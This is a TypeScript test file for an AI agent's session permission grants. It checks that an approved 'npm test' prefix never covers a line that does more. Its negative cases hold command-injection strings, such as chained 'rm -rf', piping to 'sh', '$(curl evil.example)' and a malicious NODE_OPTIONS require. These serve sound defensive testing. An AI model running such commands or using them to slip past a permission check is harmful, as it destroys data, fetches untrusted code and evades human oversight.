/**
 * "Allow for this session" for a command prefix: a granted `npm test` covers only a plain
 * simple command whose words start with `npm test`, never a line that does more.
 */
import { describe, expect, test } from 'vitest';
import { SessionGrants } from '../../src/core/security/session-grants';
import { offeredPrefix, plainCommandWords, startsWithPrefix } from '../../src/core/security/shell-prefix';

async function covered(command: string, prefix = ['npm', 'test']): Promise<boolean> {
  const grants = new SessionGrants();
  grants.add({ kind: 'prefix', tool: 'run_bash', prefix });
  return grants.covering('run_bash', await plainCommandWords(command)) !== null;
}

describe('a granted prefix', () => {
  test.each(['npm test', 'npm test -- --watch', "npm 'test' src/a.test.ts", 'npm "test"', 'npm test\n', 'npm \\\ntest'])('covers %j', async (command) => {
    expect(await covered(command)).toBe(true);
  });

  test.each([
    'npm test; rm -rf x',
    'npm test && curl https://evil.example',
    'npm test || curl https://evil.example',
    'npm test | sh',
    'npm test & rm -rf x',
    'npm test\nrm -rf x',
    'npm testx',
    'npm',
    'npx test',
    'npm test $(curl evil.example)',
    'npm test `curl evil.example`',
    'npm test <(curl evil.example)',
    'npm test $HOME',
    'npm test ${HOME}',
    'npm test $((1+1))',
    'npm test > out.txt',
    'npm test 2>&1',
    'npm test < in.txt',
    'npm test <<< input',
    'npm test <<EOF\nx\nEOF',
    'FOO=1 npm test',
    'NODE_OPTIONS=--require=./evil.js npm test',
    '(npm test)',
    '{ npm test; }',
    'npm test # comment',
    'if true; then npm test; fi',
    'npm test "unterminated',
  ])('does not cover %j', async (command) => {
    expect(await covered(command)).toBe(false);
  });

  test('belongs to its tool only', async () => {
    const grants = new SessionGrants();
    grants.add({ kind: 'prefix', tool: 'run_bash', prefix: ['npm', 'test'] });
    expect(grants.covering('other_shell', await plainCommandWords('npm test'))).toBeNull();
  });
});

describe('the offered prefix', () => {
  test('is the command name and its first word that is not an option', async () => {
    expect(offeredPrefix((await plainCommandWords('npm test --watch'))!)).toEqual(['npm', 'test']);
    expect(offeredPrefix((await plainCommandWords('ls -la src'))!)).toEqual(['ls']);
    expect(offeredPrefix((await plainCommandWords('make'))!)).toEqual(['make']);
  });

  test('is not offered for a line that is more than one plain command', async () => {
    expect(await plainCommandWords('npm test && npm run lint')).toBeNull();
    expect(await plainCommandWords('')).toBeNull();
  });

  test('matches word by word', () => {
    expect(startsWithPrefix(['npm', 'test', 'x'], ['npm', 'test'])).toBe(true);
    expect(startsWithPrefix(['npm', 'testx'], ['npm', 'test'])).toBe(false);
    expect(startsWithPrefix(['npm'], ['npm', 'test'])).toBe(false);
    expect(startsWithPrefix(['npm'], [])).toBe(false);
  });
});

describe('SessionGrants', () => {
  test('adds a grant once, lists it and revokes it by id', () => {
    const grants = new SessionGrants();
    const first = grants.add({ kind: 'tool', tool: 'edit_file' });
    expect(grants.add({ kind: 'tool', tool: 'edit_file' })).toEqual(first);
    grants.add({ kind: 'prefix', tool: 'run_bash', prefix: ['npm', 'test'] });
    expect(grants.list().map((g) => g.kind)).toEqual(['tool', 'prefix']);
    expect(grants.covering('edit_file', null)).toEqual(first);
    expect(grants.revoke(first.id)).toEqual(first);
    expect(grants.revoke(first.id)).toBeNull();
    expect(grants.covering('edit_file', null)).toBeNull();
    expect(grants.list()).toHaveLength(1);
  });
});
